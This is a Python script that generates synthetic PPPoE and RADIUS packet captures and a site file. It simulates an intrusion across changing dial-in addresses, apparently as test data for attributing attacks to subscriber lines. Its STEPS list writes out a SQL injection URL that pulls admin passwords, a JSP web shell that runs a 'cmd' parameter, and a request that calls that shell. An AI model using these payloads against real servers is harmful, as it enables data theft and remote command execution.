#!/usr/bin/env python3
"""Writes dial-in/: three lines that change their addresses twice while an intrusion goes on.

    make-dial-in.py [FOLDER]      # default: dial-in beside this script

`sessions.pcap` has the PPPoE sessions with log-ins and their traffic, `beside.pcap` the same with RADIUS accounting
beside, `radius.pcap` the plain IP behind the concentrator with RADIUS accounting, `site.yaml` the lines. Line X attacks a server from three addresses; when
it leaves its first, line Z is given that one, and tries something on another server once, which is no part of the
intrusion. Only the standard library is used, and the bytes are the same each time.
"""

import pathlib
import struct
import sys

from packets import ACK, FIN, PSH, SECOND, SYN, Capture, at, packed, transport_checksum, checksum

HERE = pathlib.Path(__file__).resolve().parent
BEGIN = at("2026-11-20T02:00:00Z")
SERVER, OTHER, RADIUS, NAS = "10.31.4.20", "10.31.4.21", "10.31.0.9", "10.40.0.1"
CONCENTRATOR = b"\x02\x00\x00\x00\x00\x01"
# account, circuit, hardware address; then for each session the address that it is given.
LINES = {
    "x": ("gz-301", "olt-3 1/1/7", b"\x02\x00\x00\x00\x03\x01", ["10.40.7.20", "10.40.7.33", "10.40.9.4"]),
    "y": ("gz-302", "olt-3 1/1/8", b"\x02\x00\x00\x00\x03\x02", ["10.40.7.21", "10.40.7.34", "10.40.9.5"]),
    "z": ("gz-303", "olt-3 1/2/1", b"\x02\x00\x00\x00\x03\x03", ["10.40.7.22", "10.40.7.20", "10.40.9.6"]),
}
# The intrusion, a step for each session of line x: what is asked, and what the server answers.
STEPS = [
    ("GET", "/list.php?id=1%27%20union%20select%20user,password,3%20from%20admin--%20", b"", b"hello"),
    ("PUT", "/upload/help.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>", b"created"),
    ("GET", "/upload/help.jsp?cmd=id", b"", b"uid=998(tomcat) gid=998(tomcat)\n"),
]


def pair(kind, value):
    return struct.pack(">BB", kind, len(value) + 2) + value


class Tap:
    """One place to listen: frames with PPPoE around IP, or without; with RADIUS accounting, or without."""

    def __init__(self, inside, accounts):
        self.capture, self.inside, self.accounts, self.identifier = Capture(), inside, accounts, 0

    def ip(self, source, target, protocol, segment):
        self.identifier = self.identifier + 1 & 0xFFFF
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), self.identifier, 0x4000, 64, protocol, 0)
        head += packed(source) + packed(target)
        return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + segment

    def send(self, time, line, session, to_server, packet):
        client = LINES[line][2]
        ends = CONCENTRATOR + client if to_server else client + CONCENTRATOR
        if self.inside:
            frame = ends + b"\x88\x64\x11\x00" + struct.pack(">HHH", session, len(packet) + 2, 0x0021) + packet
        else:
            frame = ends + b"\x08\x00" + packet
        self.capture.add(time, frame)

    def tcp(self, source, target, ports, number, acknowledged, flags, data):
        segment = struct.pack(">HHIIBBHHH", *ports, number, acknowledged, 0x50, flags, 64240, 0, 0) + data
        sum_of = transport_checksum(source, target, 6, segment)
        return self.ip(source, target, 6, segment[:16] + struct.pack(">H", sum_of) + segment[18:])

    def request(self, time, line, session, address, what, port, server=SERVER):
        """A request over HTTP and its answer."""
        method, path, sent, body = what
        ask = f"{method} {path} HTTP/1.1\r\nHost: oa.city.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
        ask = (ask + (f"Content-Length: {len(sent)}\r\n" if sent else "") + "\r\n").encode() + sent
        answer = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
        steps = [
            (True, 99, 0, SYN, b""), (False, 199, 100, SYN | ACK, b""), (True, 100, 200, ACK, b""),
            (True, 100, 200, PSH | ACK, ask), (False, 200, 100 + len(ask), PSH | ACK, answer),
            (True, 100 + len(ask), 200 + len(answer), FIN | ACK, b""),
            (False, 200 + len(answer), 101 + len(ask), FIN | ACK, b""),
            (True, 101 + len(ask), 201 + len(answer), ACK, b""),
        ]
        for step, (to_server, number, acknowledged, flags, data) in enumerate(steps):
            ends = (address, server) if to_server else (server, address)
            ports = (port, 80) if to_server else (80, port)
            packet = self.tcp(*ends, ports, number, acknowledged, flags, data)
            self.send(time + step * 2_000, line, session, to_server, packet)

    def discovery(self, time, line, code, session, tags, from_client):
        client = LINES[line][2]
        ends = CONCENTRATOR + client if from_client else client + CONCENTRATOR
        head = struct.pack(">HBBHH", 0x8863, 0x11, code, session, len(tags))
        self.capture.add(time, (ends + head + tags).ljust(60, b"\0"))

    def ppp(self, time, line, session, number, code, data, from_client):
        frame = struct.pack(">HBBH", number, code, 1, len(data) + 4) + data
        client = LINES[line][2]
        ends = CONCENTRATOR + client if from_client else client + CONCENTRATOR
        head = struct.pack(">HBBHH", 0x8864, 0x11, 0, session, len(frame))
        self.capture.add(time, (ends + head + frame).ljust(60, b"\0"))

    def begin(self, time, line, session, address):
        """Discovery, log-in and the address, or the accounting of it."""
        account, circuit = LINES[line][0].encode(), LINES[line][1].encode()
        if self.accounts:
            self.account(time + 6_000, line, session, address, 1)
        if not self.inside:
            return
        vendor = struct.pack(">I", 3561) + bytes([1, len(circuit)]) + circuit
        tags = b"\x01\x01\0\0\x01\x05" + struct.pack(">H", len(vendor)) + vendor
        self.discovery(time, line, 0x19, 0, tags, True)
        self.discovery(time + 1_000, line, 0x65, session, b"\x01\x01\0\0", False)
        self.ppp(time + 2_000, line, session, 0xC223, 1, b"\x10" + bytes(range(16)) + b"bras", False)
        self.ppp(time + 3_000, line, session, 0xC223, 2, b"\x10" + bytes(16) + account, True)
        self.ppp(time + 4_000, line, session, 0x8021, 2, pair(3, packed(NAS)), True)
        self.ppp(time + 5_000, line, session, 0x8021, 2, pair(3, packed(address)), False)

    def end(self, time, line, session, address):
        if self.inside:
            self.discovery(time, line, 0xA7, session, b"", True)
        if self.accounts:
            self.account(time, line, session, address, 2)

    def account(self, time, line, session, address, status):
        values = pair(1, LINES[line][0].encode()) + pair(8, packed(address)) + pair(31, LINES[line][1].encode())
        values += pair(40, struct.pack(">I", status)) + pair(44, f"{session:08x}".encode())
        body = struct.pack(">BBH", 4, session & 255, 20 + len(values)) + bytes(16) + values
        segment = struct.pack(">HHHH", 40_000, 1813, len(body) + 8, 0) + body
        sum_of = transport_checksum(NAS, RADIUS, 17, segment)
        packet = self.ip(NAS, RADIUS, 17, segment[:6] + struct.pack(">H", sum_of) + segment[8:])
        self.capture.add(time, b"\x02\0\0\0\0\x09" + CONCENTRATOR + b"\x08\0" + packet)


def story(tap):
    """Three sessions of each line: what is asked in each, and what line z asks on line x's former address."""
    for number in range(3):
        time = BEGIN + number * 600 * SECOND
        for place, (line, (_, _, _, addresses)) in enumerate(LINES.items()):
            session = 100 + number * 10 + place
            tap.begin(time + place * SECOND, line, session, addresses[number])
        for place, (line, (_, _, _, addresses)) in enumerate(LINES.items()):
            session = 100 + number * 10 + place
            what = STEPS[number] if line == "x" else ("GET", f"/index.php?page={number}", b"", b"hello")
            for round_ in range(4):
                asked = time + (60 + round_ * 90 + place * 5) * SECOND
                tap.request(asked, line, session, addresses[number], what, 40_000 + number * 100 + round_)
        if number == 1:
            tap.request(time + 500 * SECOND, "z", 112, LINES["z"][3][1], STEPS[0], 41_000, OTHER)
        for place, (line, (_, _, _, addresses)) in enumerate(LINES.items()):
            tap.end(time + (580 + place) * SECOND, line, 100 + number * 10 + place, addresses[number])


def main():
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "dial-in"
    folder.mkdir(exist_ok=True)
    for name, inside, accounts in (("sessions", True, False), ("beside", True, True), ("radius", False, True)):
        tap = Tap(inside, accounts)
        story(tap)
        tap.capture.write(folder / f"{name}.pcap")
    points = "".join(
        f"  - {{id: A-{line.upper()}, name: line {line}, unit: U-1, type: pppoe, accounts: [{account}], circuits: [{circuit}]}}\n"
        for line, (account, circuit, _, _) in LINES.items()
    )
    (folder / "site.yaml").write_text(
        "districts: [{id: GZ, name: 桂洲镇}]\nunits: [{id: U-1, name: 服务站, district: GZ}]\naccess_points:\n" + points
        + "  - {id: A-S, name: centre, unit: U-1, type: leased, ranges: [10.31.4.0/24]}\n"
        "  - {id: A-D, name: dial-in, unit: U-1, type: pppoe, ranges: [10.40.0.0/16]}\n"
        f"assets: [{{id: S-1, name: oa, address: {SERVER}, role: web, importance: 5}}]\n"
    )


main()
